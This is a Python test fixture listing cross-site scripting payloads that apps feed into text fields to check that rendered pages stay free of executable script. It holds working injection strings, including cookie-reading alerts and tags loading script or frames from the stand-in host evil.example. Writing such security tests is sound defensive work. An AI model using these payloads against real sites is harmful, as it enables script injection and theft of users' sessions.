"""Hostile payloads for XSS tests (shared by every app: import ``XSS_PAYLOADS``).

Each is placed in a text field and the rendered page is checked with
``rounds.core.testing.executable_constructs``. Script tags, event handlers, ``javascript:`` /
``data:`` / ``vbscript:`` URLs, SVG and MathML, broken markup, and Markdown link/image tricks.
Apps may append payloads (targeted edits); keep every entry under 300 characters so it fits
short fields too (``XSS_SHORT`` holds the ones under 120).
"""

from __future__ import annotations

XSS_PAYLOADS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "'-alert(1)-'",
    '";alert(1);//',
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    # javascript:, data:, vbscript: URLs in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    # Markdown link and image tricks
    "[click me](javascript:alert(1))",
    "[click me](JAVASCRIPT:alert(1))",
    "[click me](  javascript:alert(1)  )",
    "[click me](java\nscript:alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "[a](https://example.org/)<img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <iframe src=//evil.example></iframe>",
    # hashtags and autolinks mixed with markup (posts linkify both)
    "#topic<script>alert(1)</script>",
    '#x"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"><img src=x onerror=alert(1)>',
    "https://example.org/?q=<svg/onload=alert(1)>",
    "javascript://example.org/%0Aalert(1)",
    # broken markup and encodings
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img\x0bsrc=x onerror=alert(1)>",
    "<a\nhref=javascript:alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

#: The payloads short enough for short fields (titles, names, headlines).
XSS_SHORT: list[str] = [payload for payload in XSS_PAYLOADS if len(payload) <= 120]

assert len(XSS_PAYLOADS) >= 50
